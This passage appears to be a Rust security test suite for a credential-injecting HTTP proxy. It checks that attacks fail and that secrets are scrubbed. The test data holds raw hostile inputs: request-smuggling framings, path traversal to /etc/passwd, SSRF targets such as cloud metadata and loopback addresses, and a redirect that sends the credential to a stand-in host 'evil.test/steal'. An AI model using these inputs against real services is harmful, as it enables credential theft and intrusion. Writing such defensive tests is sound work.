//! Attacks an agent (or a hostile upstream) can mount through the proxy, each
//! driven with raw HTTP/1 over TCP or over an intercepted TLS tunnel, where a
//! well-behaved client library would normalise the attack away.
//!
//! Every case checks what the agent got back (status, `x-credgate-reason`,
//! JSON `error`), what the upstream received (nothing, or exactly the one
//! injected credential), and that no secret (the credential, the task token,
//! what the agent tried to send) is in any response or in the decision log.

mod support;

use std::collections::BTreeMap;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use base64::Engine;
use credgate::audit::Verdict;
use credgate::reason::Reason;
use credgate::tls::CertificateAuthority;
use support::*;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

type Tls = tokio_rustls::client::TlsStream<TcpStream>;

/// Paths the test rules allow (under both the TLS and the plain upstream).
const PATHS: &str = r#"["/v1/repos/acme/**", "/v1/items", "/echo/**", "/error"]"#;

/// What the upstreams produced, by path, and the task token a leaky upstream
/// somehow learned (it echoes it too).
#[derive(Default)]
struct UpstreamState {
    sent: Mutex<BTreeMap<String, Vec<u8>>>,
    leaked_token: Mutex<String>,
}

/// The received headers, one `name: value` line each, plus the leaked token.
fn echo_text(r: &Received, state: &UpstreamState) -> String {
    let mut text: String = r
        .headers
        .iter()
        .map(|(k, v)| format!("{k}: {v}\n"))
        .collect();
    text.push_str(&format!(
        "x-seen-token: {}\n",
        state.leaked_token.lock().unwrap()
    ));
    text
}

/// Every echoed line in base64, both alphabets, padded and not, whole and
/// value only.
fn echo_base64(text: &str) -> String {
    let mut out = String::new();
    for line in text.lines() {
        let value = line.split_once(": ").map_or(line, |(_, v)| v);
        for piece in [line, value] {
            out.push_str(&format!(
                "std={}\nstdnp={}\nurl={}\nurlnp={}\n",
                STANDARD.encode(piece),
                STANDARD_NO_PAD.encode(piece),
                URL_SAFE.encode(piece),
                URL_SAFE_NO_PAD.encode(piece)
            ));
        }
    }
    out
}

/// The test upstreams: echo endpoints in several encodings, an error page
/// that echoes, and "ok" for everything else.
fn upstream_handler(state: Arc<UpstreamState>) -> Handler {
    Arc::new(move |r: &Received| {
        let path = r.path_and_query.split('?').next().unwrap_or_default();
        let text = echo_text(r, &state);
        let mut reply = match path {
            "/echo/raw" => Reply::ok(&text),
            "/echo/gzip" => Reply {
                status: 200,
                // Ignores `Accept-Encoding: identity`, and is not even
                // gzip: a body that cannot be decoded cannot be scrubbed.
                headers: vec![("content-encoding".into(), "gzip".into())],
                chunks: vec![text.clone().into_bytes()],
            },
            "/echo/base64" => Reply::ok(&echo_base64(&text)),
            "/echo/split" => {
                // The secret-bearing lines in chunks shorter than any secret,
                // so every secret and every encoding of it is cut.
                let secret_lines: String = text
                    .lines()
                    .filter(|l| l.starts_with("authorization") || l.starts_with("x-seen-token"))
                    .map(|l| format!("{l}\n"))
                    .collect();
                let body = format!("{secret_lines}{}", echo_base64(&secret_lines));
                Reply {
                    status: 200,
                    headers: vec![("content-type".into(), "text/plain".into())],
                    chunks: body.as_bytes().chunks(13).map(<[u8]>::to_vec).collect(),
                }
            }
            "/error" => {
                let body = format!(
                    "<html><body><h1>500 Internal Server Error</h1><pre>{text}{}</pre></body></html>",
                    echo_base64(&text)
                );
                Reply {
                    status: 500,
                    headers: vec![("content-type".into(), "text/html".into())],
                    chunks: vec![body.into_bytes()],
                }
            }
            _ => Reply::ok("ok from upstream"),
        };
        if path.starts_with("/echo/") || path == "/error" {
            // Response headers echo too.
            let auth = r.header("authorization").join(",");
            reply
                .headers
                .push(("x-echo-authorization".into(), auth.clone()));
            reply
                .headers
                .push(("x-echo-base64".into(), STANDARD.encode(&auth)));
        }
        state
            .sent
            .lock()
            .unwrap()
            .insert(path.to_string(), reply.chunks.concat());
        reply
    })
}

struct Setup {
    env: Env,
    /// HTTPS upstream for `api.test`.
    tls: Upstream,
    /// Plain-HTTP upstream for `api.test` on another port.
    plain: Upstream,
    state: Arc<UpstreamState>,
    /// The credential credgate injects.
    secret: String,
    /// A secret the agent tries to send itself.
    agent_secret: String,
    id: String,
    token: String,
    /// `Proxy-Authorization` value for the task.
    auth: String,
}

/// credgate with a static credential `api` and scope `api` allowing [`PATHS`]
/// on the TLS and the plain upstream, plus `extra_rules` (YAML list items
/// under scope `api`, indented by four spaces; `TLS_PORT` stands for the TLS
/// upstream's port) and `extra` (more scopes, or other top-level YAML).
async fn setup_with(extra_rules: &str, extra: &str) -> Setup {
    let secret = test_secret();
    let state = Arc::new(UpstreamState::default());
    let ca = Arc::new(CertificateAuthority::generate().unwrap());
    let tls = Upstream::start_tls(ca.clone(), "api.test", upstream_handler(state.clone())).await;
    let plain = Upstream::start_plain(upstream_handler(state.clone())).await;
    let config = format!(
        r#"
credentials:
  api:
    static: {{ env: API_TOKEN }}
scopes:
  api:
    - host: api.test
      port: {tls}
      methods: [GET, POST]
      paths: {PATHS}
      credential: api
      allow_private: true
    - host: api.test
      port: {plain}
      schemes: [http]
      methods: [GET, POST]
      paths: {PATHS}
      credential: api
      allow_private: true
{extra_rules}
{extra}
"#,
        tls = tls.port(),
        plain = plain.port(),
        extra_rules = extra_rules.replace("TLS_PORT", &tls.port().to_string()),
    );
    let env = Env::start_trusting(ca, &config, &[("API_TOKEN", &secret)]).await;
    env.resolver.map("api.test", "127.0.0.1");
    let (id, token) = env.start_task(&["api"]);
    *state.leaked_token.lock().unwrap() = token.clone();
    Setup {
        auth: proxy_auth(&id, &token),
        env,
        tls,
        plain,
        state,
        secret,
        agent_secret: test_secret(),
        id,
        token,
    }
}

async fn setup() -> Setup {
    setup_with("", "").await
}

impl Setup {
    fn plain_authority(&self) -> String {
        format!("api.test:{}", self.plain.port())
    }

    fn tls_authority(&self) -> String {
        format!("api.test:{}", self.tls.port())
    }

    /// An absolute-form request for the plain upstream, authenticated.
    /// `headers` are extra header lines, each ending in CRLF.
    fn plain_request(&self, method: &str, path: &str, headers: &str) -> Vec<u8> {
        let a = self.plain_authority();
        format!(
            "{method} http://{a}{path} HTTP/1.1\r\nHost: {a}\r\nProxy-Authorization: {}\r\n{headers}\r\n",
            self.auth
        )
        .into_bytes()
    }

    /// An origin-form request inside the tunnel to the TLS upstream.
    fn inner_request(&self, method: &str, path: &str, headers: &str) -> Vec<u8> {
        format!(
            "{method} {path} HTTP/1.1\r\nHost: {}\r\n{headers}\r\n",
            self.tls_authority()
        )
        .into_bytes()
    }

    /// An intercepted tunnel to the TLS upstream.
    async fn open_tunnel(&self) -> Tls {
        tunnel(&self.env, &self.auth, &self.tls_authority(), "api.test")
            .await
            .unwrap_or_else(|e| panic!("tunnel refused: {e}"))
    }

    /// Everything either upstream received.
    fn upstream_received(&self) -> Vec<Received> {
        let mut all = self.tls.received();
        all.extend(self.plain.received());
        all
    }

    fn assert_upstreams_untouched(&self) {
        let got = self.upstream_received();
        assert!(got.is_empty(), "an upstream received {got:?}");
    }

    /// No secret in `text`, nor in the decision log.
    async fn assert_no_secrets(&self, text: &str) {
        for (what, value) in [
            ("the credential", &self.secret),
            ("the task token", &self.token),
            ("the agent's secret", &self.agent_secret),
        ] {
            assert!(
                !text.contains(value.as_str()),
                "{what} reached the agent: {text}"
            );
        }
        let log = self.env.log_text().await;
        for (what, value) in [
            ("the credential", &self.secret),
            ("the task token", &self.token),
            ("the agent's secret", &self.agent_secret),
        ] {
            assert!(
                !log.contains(value.as_str()),
                "{what} is in the decision log"
            );
        }
    }

    /// The upstream received exactly the injected credential, once, and none
    /// of the agent's own secret-bearing headers.
    fn assert_only_injected(&self, r: &Received) {
        assert_eq!(
            r.header("authorization"),
            vec![format!("Bearer {}", self.secret).as_str()],
            "{r:?}"
        );
        assert!(r.header("x-api-key").is_empty(), "{r:?}");
        assert!(r.header("proxy-authorization").is_empty(), "{r:?}");
        let all = format!("{r:?}");
        assert!(
            !all.contains(&self.agent_secret),
            "agent secret forwarded: {all}"
        );
        assert!(!all.contains(&self.token), "task token forwarded: {all}");
    }
}

/// A credgate denial: status, `x-credgate-reason` and the JSON `error`.
fn assert_refused(resp: &RawResponse, status: u16, reason: &str) {
    assert_eq!(resp.status, status, "{}", resp.text());
    assert_eq!(resp.reason(), Some(reason), "{}", resp.text());
    assert_eq!(resp.json()["error"], reason, "{}", resp.text());
}

// The agent's own Authorization / X-Api-Key, also named in Connection.

fn agent_auth_headers(agent_secret: &str) -> String {
    format!(
        "Authorization: Bearer {agent_secret}\r\nauthorization: Basic {agent_secret}\r\n\
         X-Api-Key: {agent_secret}\r\nConnection: Authorization, X-Api-Key\r\n"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agent_credentials_are_replaced_by_one_injected_credential_plain() {
    let s = setup().await;
    let request = s.plain_request("GET", "/v1/items", &agent_auth_headers(&s.agent_secret));
    let (_stream, resp) = send_plain(&s.env, &request).await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    assert_eq!(resp.body, b"ok from upstream");
    let got = s.plain.received();
    assert_eq!(got.len(), 1, "{got:?}");
    s.assert_only_injected(&got[0]);
    assert!(s.tls.received().is_empty());
    let records = s
        .env
        .wait_for_record(|r| r.path.as_deref() == Some("/v1/items"))
        .await;
    let rec = records
        .iter()
        .find(|r| r.path.as_deref() == Some("/v1/items"))
        .unwrap();
    assert!(rec.stripped.iter().any(|h| h == "authorization"), "{rec:?}");
    assert!(rec.stripped.iter().any(|h| h == "x-api-key"), "{rec:?}");
    s.assert_no_secrets(&resp.text()).await;
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agent_credentials_are_replaced_by_one_injected_credential_in_tunnel() {
    let s = setup().await;
    let mut tls = s.open_tunnel().await;
    // Inside the tunnel the agent also repeats its task token: it is not
    // forwarded either.
    let headers = format!(
        "{}Proxy-Authorization: {}\r\n",
        agent_auth_headers(&s.agent_secret),
        s.auth
    );
    let request = s.inner_request("GET", "/v1/items", &headers);
    let resp = exchange(&mut tls, &request).await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    // The same connection, now asking the upstream to echo what it got.
    let resp2 = exchange(
        &mut tls,
        &s.inner_request("GET", "/echo/raw", &agent_auth_headers(&s.agent_secret)),
    )
    .await;
    assert_eq!(resp2.status, 200, "{}", resp2.text());
    let got = s.tls.received();
    assert_eq!(got.len(), 2, "{got:?}");
    for r in &got {
        s.assert_only_injected(r);
    }
    assert!(s.plain.received().is_empty());
    s.assert_no_secrets(&format!("{}{}", resp.text(), resp2.text()))
        .await;
    s.env.stop().await;
}

// Disagreeing names for the destination.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn absolute_uri_host_differs_from_host_header() {
    let s = setup().await;
    let a = s.plain_authority();
    for host in ["evil.test", "api.test:1", "api.test"] {
        let request = format!(
            "GET http://{a}/v1/items HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {}\r\n\r\n",
            s.auth
        );
        let (_stream, resp) = send_plain(&s.env, request.as_bytes()).await;
        assert_refused(&resp, 400, "host_mismatch");
        s.assert_no_secrets(&resp.text()).await;
    }
    s.assert_upstreams_untouched();
    let records = s.env.request_records().await;
    assert_eq!(records.len(), 3, "{records:?}");
    assert!(records
        .iter()
        .all(|r| r.reason == Some(Reason::HostMismatch)));
    assert_eq!(s.env.resolver.count(), 0);
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connect_host_differs_from_sni() {
    let s = setup().await;
    let result = tunnel(&s.env, &s.auth, &s.tls_authority(), "evil.test").await;
    let Err(err) = result else {
        panic!("TLS with a foreign SNI must not complete");
    };
    assert!(err.starts_with("TLS failed"), "{err}");
    let records = s
        .env
        .wait_for_record(|r| r.reason == Some(Reason::HostMismatch))
        .await;
    let rec = records
        .iter()
        .find(|r| r.reason == Some(Reason::HostMismatch))
        .unwrap_or_else(|| panic!("no host_mismatch record: {records:?}"));
    assert_eq!(rec.method.as_deref(), Some("CONNECT"));
    assert_eq!(rec.decision, Some(Verdict::Deny));
    assert_eq!(records.len(), 1, "{records:?}");
    s.assert_upstreams_untouched();
    s.assert_no_secrets(&err).await;
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connect_host_differs_from_inner_host() {
    let s = setup().await;
    let port = s.tls.port();
    let cases = [
        "GET /v1/items HTTP/1.1\r\nHost: evil.test\r\n\r\n".to_string(),
        format!("GET /v1/items HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n"),
        // No port in Host means 443, which is not the tunnel's port.
        "GET /v1/items HTTP/1.1\r\nHost: api.test\r\n\r\n".to_string(),
        format!("GET https://evil.test:{port}/v1/items HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n"),
    ];
    for request in &cases {
        let mut tls = s.open_tunnel().await;
        let resp = exchange(&mut tls, request.as_bytes()).await;
        assert_refused(&resp, 421, "misdirected_request");
        s.assert_no_secrets(&resp.text()).await;
    }
    s.assert_upstreams_untouched();
    assert_eq!(s.env.resolver.count(), 0);
    let records = s.env.request_records().await;
    let misdirected = records
        .iter()
        .filter(|r| r.reason == Some(Reason::MisdirectedRequest))
        .count();
    assert_eq!(misdirected, cases.len(), "{records:?}");
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn userinfo_in_the_request_uri_is_refused() {
    let s = setup().await;
    let a = s.plain_authority();
    for uri in [
        format!("http://{a}@evil.test/v1/items"),
        format!("http://user:{}@{a}/v1/items", s.agent_secret),
    ] {
        let request = format!(
            "GET {uri} HTTP/1.1\r\nHost: {a}\r\nProxy-Authorization: {}\r\n\r\n",
            s.auth
        );
        let (_stream, resp) = send_plain(&s.env, request.as_bytes()).await;
        assert_eq!(resp.status, 400, "{uri}: {}", resp.text());
        s.assert_no_secrets(&resp.text()).await;
    }
    s.assert_upstreams_untouched();
    assert_eq!(s.env.resolver.count(), 0);
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http2_authority_and_host_must_match_the_tunnel() {
    let s = setup().await;
    let a = s.tls_authority();
    let tls = tunnel_alpn(&s.env, &s.auth, &a, "api.test", &[b"h2", b"http/1.1"])
        .await
        .unwrap();
    let mut h2 = h2_client(tls).await;
    let get = |uri: String, host: Option<&str>, method: &str| {
        let mut b = http::Request::builder()
            .method(method)
            .uri(uri)
            .header("authorization", format!("Bearer {}", s.agent_secret));
        if let Some(h) = host {
            b = b.header("host", h);
        }
        b.body(http_body_util::Full::new(bytes::Bytes::new()))
            .unwrap()
    };
    let cases: Vec<(http::Request<_>, u16, Option<&str>)> = vec![
        (
            get(
                format!("https://evil.test:{}/v1/items", s.tls.port()),
                None,
                "GET",
            ),
            421,
            Some("misdirected_request"),
        ),
        (
            get(format!("https://{a}/v1/items"), Some("evil.test"), "GET"),
            400,
            Some("host_mismatch"),
        ),
        (
            get(format!("https://{a}/v1/items"), None, "TRACE"),
            405,
            Some("method_refused"),
        ),
        (
            get(format!("https://{a}/v1/repos/acme/../evil"), None, "GET"),
            403,
            Some("no_matching_rule"),
        ),
        (
            get(format!("https://{a}/v1/repos/acme/..%2fevil"), None, "GET"),
            400,
            Some("path_rejected"),
        ),
        (get(format!("https://{a}/v1/items"), None, "GET"), 200, None),
    ];
    for (request, status, reason) in cases {
        let what = format!("{} {}", request.method(), request.uri());
        let (parts, body) = h2_exchange(&mut h2, request).await;
        let text = String::from_utf8_lossy(&body).into_owned();
        assert_eq!(parts.status.as_u16(), status, "{what}: {text}");
        assert_eq!(
            parts
                .headers
                .get("x-credgate-reason")
                .map(|v| v.to_str().unwrap()),
            reason,
            "{what}"
        );
        s.assert_no_secrets(&format!("{parts:?}{text}")).await;
    }
    let got = s.tls.received();
    assert_eq!(got.len(), 1, "{got:?}");
    s.assert_only_injected(&got[0]);
    s.env.stop().await;
}

// Ambiguous framing and request smuggling.

/// Requests whose body hides a second request, framed two ways at once.
fn smuggling_requests(head: &str, hidden: &str) -> Vec<String> {
    let chunked_then_hidden = format!("0\r\n\r\n{hidden}");
    vec![
        format!(
            "{head}Content-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n{chunked_then_hidden}",
            chunked_then_hidden.len()
        ),
        format!(
            "{head}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{chunked_then_hidden}"
        ),
        format!(
            "{head}Content-Length: 0\r\nContent-Length: {}\r\n\r\n{hidden}",
            hidden.len()
        ),
        format!(
            "{head}Content-Length: {len}\r\nContent-Length: {len}\r\n\r\n{hidden}",
            len = hidden.len()
        ),
        format!(
            "{head}Host: evil.test\r\nContent-Length: {}\r\n\r\n{hidden}",
            hidden.len()
        ),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ambiguous_framing_is_refused_and_closes_plain() {
    let s = setup().await;
    let a = s.plain_authority();
    let head = format!(
        "POST http://{a}/v1/items HTTP/1.1\r\nHost: {a}\r\nProxy-Authorization: {}\r\n",
        s.auth
    );
    let hidden = String::from_utf8(s.plain_request("GET", "/v1/repos/acme/smuggled", "")).unwrap();
    let cases = smuggling_requests(&head, &hidden);
    for request in &cases {
        let (mut stream, resp) = send_plain(&s.env, request.as_bytes()).await;
        assert_refused(&resp, 400, "framing_ambiguous");
        expect_closed(&mut stream, Duration::from_secs(2))
            .await
            .unwrap_or_else(|e| panic!("connection not closed after {request:?}: {e}"));
        s.assert_no_secrets(&resp.text()).await;
    }
    s.assert_upstreams_untouched();
    let records = s.env.request_records().await;
    assert_eq!(records.len(), cases.len(), "{records:?}");
    assert!(
        records
            .iter()
            .all(|r| r.reason == Some(Reason::FramingAmbiguous)),
        "{records:?}"
    );
    assert_eq!(s.env.resolver.count(), 0);
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ambiguous_framing_is_refused_and_closes_in_tunnel() {
    let s = setup().await;
    let head = format!("POST /v1/items HTTP/1.1\r\nHost: {}\r\n", s.tls_authority());
    let hidden = String::from_utf8(s.inner_request("GET", "/v1/repos/acme/smuggled", "")).unwrap();
    let cases = smuggling_requests(&head, &hidden);
    for request in &cases {
        let mut tls = s.open_tunnel().await;
        let resp = exchange(&mut tls, request.as_bytes()).await;
        assert_refused(&resp, 400, "framing_ambiguous");
        expect_closed(&mut tls, Duration::from_secs(2))
            .await
            .unwrap_or_else(|e| panic!("tunnel not closed after {request:?}: {e}"));
        s.assert_no_secrets(&resp.text()).await;
    }
    s.assert_upstreams_untouched();
    let records = s.env.request_records().await;
    let framing = records
        .iter()
        .filter(|r| r.reason == Some(Reason::FramingAmbiguous))
        .count();
    assert_eq!(framing, cases.len(), "{records:?}");
    // Apart from those, only the CONNECTs were recorded.
    assert_eq!(records.len(), 2 * cases.len(), "{records:?}");
    s.env.stop().await;
}

// Dot segments and encoded slashes.

/// (path as sent, expected status, expected reason, normalised path in the record)
fn traversal_cases() -> Vec<(&'static str, u16, &'static str, Option<&'static str>)> {
    vec![
        (
            "/v1/repos/acme/../evil",
            403,
            "no_matching_rule",
            Some("/v1/repos/evil"),
        ),
        (
            "/v1/repos/acme/%2e%2e/evil",
            403,
            "no_matching_rule",
            Some("/v1/repos/evil"),
        ),
        (
            "/v1/repos/acme/%2E%2E/evil",
            403,
            "no_matching_rule",
            Some("/v1/repos/evil"),
        ),
        (
            "/v1/repos/acme/.%2e/evil",
            403,
            "no_matching_rule",
            Some("/v1/repos/evil"),
        ),
        (
            "/v1/repos/acme/x/../../evil",
            403,
            "no_matching_rule",
            Some("/v1/repos/evil"),
        ),
        (
            "/v1/repos/acme/./../evil",
            403,
            "no_matching_rule",
            Some("/v1/repos/evil"),
        ),
        ("/v1/repos/acme%2f..%2fevil", 400, "path_rejected", None),
        ("/v1/repos/acme/..%2fevil", 400, "path_rejected", None),
        ("/v1/repos/acme/..%2Fevil", 400, "path_rejected", None),
        ("/v1/repos/acme/..%5cevil", 400, "path_rejected", None),
        (
            "/v1/repos/acme/../../../../etc/passwd",
            400,
            "path_rejected",
            None,
        ),
    ]
}

async fn check_traversal(s: &Setup, in_tunnel: bool) {
    for (path, status, reason, normalised) in traversal_cases() {
        let resp = if in_tunnel {
            let mut tls = s.open_tunnel().await;
            exchange(&mut tls, &s.inner_request("GET", path, "")).await
        } else {
            send_plain(&s.env, &s.plain_request("GET", path, ""))
                .await
                .1
        };
        assert_refused(&resp, status, reason);
        s.assert_upstreams_untouched();
        if let Some(normalised) = normalised {
            // (A tunnel dropped without close_notify may add a record with
            // no method; see `records.rs`.)
            let records = s.env.request_records().await;
            let last = records.iter().rev().find(|r| r.method.is_some()).unwrap();
            assert_eq!(last.path.as_deref(), Some(normalised), "{path}: {last:?}");
        }
    }
    // Dot segments that stay inside the allowed tree are resolved, and the
    // upstream gets the path the rule saw.
    let resp = if in_tunnel {
        let mut tls = s.open_tunnel().await;
        exchange(
            &mut tls,
            &s.inner_request("GET", "/v1/repos/acme/x/%2e%2e/y", ""),
        )
        .await
    } else {
        send_plain(
            &s.env,
            &s.plain_request("GET", "/v1/repos/acme/x/%2e%2e/y", ""),
        )
        .await
        .1
    };
    assert_eq!(resp.status, 200, "{}", resp.text());
    let got = s.upstream_received();
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0].path_and_query, "/v1/repos/acme/y");
    assert_eq!(
        s.env.resolver.count(),
        1,
        "only the allowed request resolves"
    );
    s.assert_no_secrets(&resp.text()).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn path_traversal_is_normalised_or_rejected_plain() {
    let s = setup().await;
    check_traversal(&s, false).await;
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn path_traversal_is_normalised_or_rejected_in_tunnel() {
    let s = setup().await;
    check_traversal(&s, true).await;
    s.env.stop().await;
}

// Upstreams that echo the credential back.

/// Every base64 word in `text`, decoded (both alphabets).
fn decoded_words(text: &[u8]) -> Vec<Vec<u8>> {
    let text = String::from_utf8_lossy(text);
    text.split(|c: char| !(c.is_ascii_alphanumeric() || "+/-_".contains(c)))
        .filter(|w| w.len() >= 8)
        .flat_map(|w| [STANDARD_NO_PAD.decode(w), URL_SAFE_NO_PAD.decode(w)])
        .filter_map(Result::ok)
        .collect()
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

/// The agent's body is the upstream's, as long, with every credential and
/// token occurrence masked in every encoding.
fn assert_scrubbed(s: &Setup, path: &str, resp: &RawResponse, status: u16) {
    assert_eq!(resp.status, status, "{path}: {}", resp.text());
    let sent = s.state.sent.lock().unwrap().get(path).cloned().unwrap();
    // The test must be able to fail: the upstream did send the secrets.
    for secret in [&s.secret, &s.token] {
        if path != "/echo/base64" {
            assert!(
                contains(&sent, secret.as_bytes()),
                "{path}: nothing echoed raw"
            );
        }
        if path != "/echo/raw" {
            assert!(
                decoded_words(&sent)
                    .iter()
                    .any(|d| contains(d, secret.as_bytes())),
                "{path}: the upstream body carries no encoded secret"
            );
        }
    }
    assert_eq!(resp.body.len(), sent.len(), "{path}: length changed");
    assert!(contains(&resp.body, b"****"), "{path}: nothing masked");
    for secret in [&s.secret, &s.token] {
        let text = resp.text();
        assert!(
            !text.contains(secret.as_str()),
            "{path}: raw secret in {text}"
        );
        for decoded in decoded_words(text.as_bytes()) {
            assert!(
                !contains(&decoded, secret.as_bytes()),
                "{path}: base64 of a secret reached the agent: {}",
                resp.text()
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn echoed_credentials_are_scrubbed_in_every_form() {
    let s = setup().await;
    let mut tls = s.open_tunnel().await;
    for (path, status) in [
        ("/echo/raw", 200),
        ("/echo/base64", 200),
        ("/echo/split", 200),
        ("/error", 500),
    ] {
        let resp = exchange(&mut tls, &s.inner_request("GET", path, "")).await;
        assert_scrubbed(&s, path, &resp, status);
        s.assert_no_secrets(&resp.text()).await;
    }
    // A body labelled gzip that does not decode gets nothing through.
    let resp = exchange(&mut tls, &s.inner_request("GET", "/echo/gzip", "")).await;
    assert_refused(&resp, 502, "response_unscannable");
    s.assert_no_secrets(&resp.text()).await;
    // The same over the plain proxy.
    for (path, status) in [("/echo/split", 200), ("/error", 500)] {
        let (_stream, resp) = send_plain(&s.env, &s.plain_request("GET", path, "")).await;
        assert_scrubbed(&s, path, &resp, status);
        s.assert_no_secrets(&resp.text()).await;
    }
    let records = s
        .env
        .wait_for_record(|r| {
            r.path.as_deref() == Some("/error") && r.scheme.as_deref() == Some("http")
        })
        .await;
    let scrubbed = records
        .iter()
        .filter(|r| r.method.as_deref() == Some("GET") && r.path.as_deref() != Some("/echo/gzip"));
    for r in scrubbed {
        assert!(r.scrubbed > 0, "{r:?}");
        assert_eq!(r.decision, Some(Verdict::Allow), "{r:?}");
    }
    s.env.stop().await;
}

// A redirect to an out-of-scope host, followed by a real client.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn followed_redirect_out_of_scope_is_refused_before_dns() {
    let secret = test_secret();
    let ca = Arc::new(CertificateAuthority::generate().unwrap());
    // The upstream tries to bounce the credential it received to evil.test.
    let handler: Handler = Arc::new(|r: &Received| {
        let got = r.header("authorization").join(",").replace(' ', "+");
        Reply {
            status: 302,
            headers: vec![(
                "location".into(),
                format!("https://evil.test/steal?c={got}"),
            )],
            chunks: vec![b"moved".to_vec()],
        }
    });
    // An IP-literal upstream: the allowed request itself needs no DNS, so any
    // lookup at all would be the refused one.
    let upstream = Upstream::start_tls(ca.clone(), "127.0.0.1", handler).await;
    let config = format!(
        r#"
credentials:
  api:
    static: {{ env: API_TOKEN }}
scopes:
  api:
    - host: 127.0.0.1
      port: {port}
      paths: ["/redirect"]
      credential: api
      allow_private: true
"#,
        port = upstream.port()
    );
    let env = Env::start_trusting(ca, &config, &[("API_TOKEN", &secret)]).await;
    let (id, token) = env.start_task(&["api"]);
    let proxy = env.proxy_url(&id, &token);
    let mut cmd = Command::new("curl");
    cmd.env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .env_remove("HTTP_PROXY")
        .env_remove("http_proxy")
        .env("HTTPS_PROXY", &proxy)
        .env("https_proxy", &proxy)
        .args(["-sS", "-v", "-L", "--max-redirs", "3", "--cacert"])
        .arg(&env.ca_cert)
        .arg(format!("https://127.0.0.1:{}/redirect", upstream.port()));
    let out = run_command(cmd).await;
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(
        !out.status.success(),
        "curl followed the redirect: {stdout}{stderr}"
    );
    assert!(stderr.contains("403"), "{stderr}");
    assert_eq!(upstream.received().len(), 1);
    assert_eq!(env.resolver.count(), 0, "evil.test was looked up");
    let records = env.request_records().await;
    let evil: Vec<_> = records
        .iter()
        .filter(|r| r.host.as_deref() == Some("evil.test"))
        .collect();
    assert_eq!(evil.len(), 1, "{records:?}");
    assert_eq!(evil[0].method.as_deref(), Some("CONNECT"));
    assert_eq!(evil[0].reason, Some(Reason::NoMatchingRule));
    // curl itself prints the proxy URL with the token; what credgate sent
    // back is the body and the `<` lines.
    let replies: String = stderr
        .lines()
        .filter(|l| l.starts_with('<'))
        .map(|l| format!("{l}\n"))
        .collect();
    assert!(
        replies.contains("location: https://evil.test/steal?c=Bearer+****"),
        "{replies}"
    );
    for text in [&stdout, &replies, &env.log_text().await] {
        assert!(!text.contains(&secret), "credential leaked: {text}");
        assert!(!text.contains(&token), "token leaked: {text}");
    }
    env.stop().await;
}

// Internal destinations.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connect_to_internal_addresses_is_refused() {
    let s = setup().await;
    let admin = s.env.admin.port();
    let proxy = s.env.proxy.port();
    let targets = [
        format!("127.0.0.1:{admin}"),
        format!("127.0.0.1:{proxy}"),
        "169.254.169.254:80".to_string(),
        "169.254.169.254:443".to_string(),
        format!("[::ffff:127.0.0.1]:{admin}"),
        format!("[::1]:{admin}"),
        format!("localhost:{admin}"),
        "[fd00:ec2::254]:80".to_string(),
        format!("127.0.0.1:{}", s.tls.port()),
    ];
    for target in &targets {
        let (_stream, resp) = connect_raw(&s.env, Some(&s.auth), target).await;
        assert_refused(&resp, 403, "no_matching_rule");
        s.assert_no_secrets(&resp.text()).await;
    }
    // Odd spellings of loopback are refused too, one way or another.
    for target in [
        format!("2130706433:{admin}"),
        format!("0x7f.1:{admin}"),
        format!("127.1:{admin}"),
    ] {
        let (_stream, resp) = connect_raw(&s.env, Some(&s.auth), &target).await;
        assert!(
            matches!(resp.status, 400 | 403),
            "{target}: {}",
            resp.text()
        );
    }
    assert_eq!(s.env.resolver.count(), 0);
    s.assert_upstreams_untouched();
    s.env.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostname_resolving_to_loopback_needs_allow_private() {
    let inner = Upstream::start_tls(
        Arc::new(CertificateAuthority::generate().unwrap()),
        "internal.test",
        ok_handler(),
    )
    .await;
    let rule = format!(
        "    - host: internal.test\n      port: {}\n      credential: api\n",
        inner.port()
    );
    let s = setup_with(&rule, "").await;
    s.env.resolver.map("internal.test", "127.0.0.1");
    let target = format!("internal.test:{}", inner.port());
    let mut tls = tunnel(&s.env, &s.auth, &target, "internal.test")
        .await
        .unwrap_or_else(|e| panic!("CONNECT to a ruled host refused: {e}"));
    let request = format!("GET /v1/items HTTP/1.1\r\nHost: {target}\r\n\r\n");
    let resp = exchange(&mut tls, request.as_bytes()).await;
    assert_refused(&resp, 403, "destination_refused");
    assert!(inner.received().is_empty(), "{:?}", inner.received());
    s.assert_upstreams_untouched();
    s.assert_no_secrets(&resp.text()).await;
    let records = s.env.request_records().await;
    let refused: Vec<_> = records
        .iter()
        .filter(|r| r.reason == Some(Reason::DestinationRefused))
        .collect();
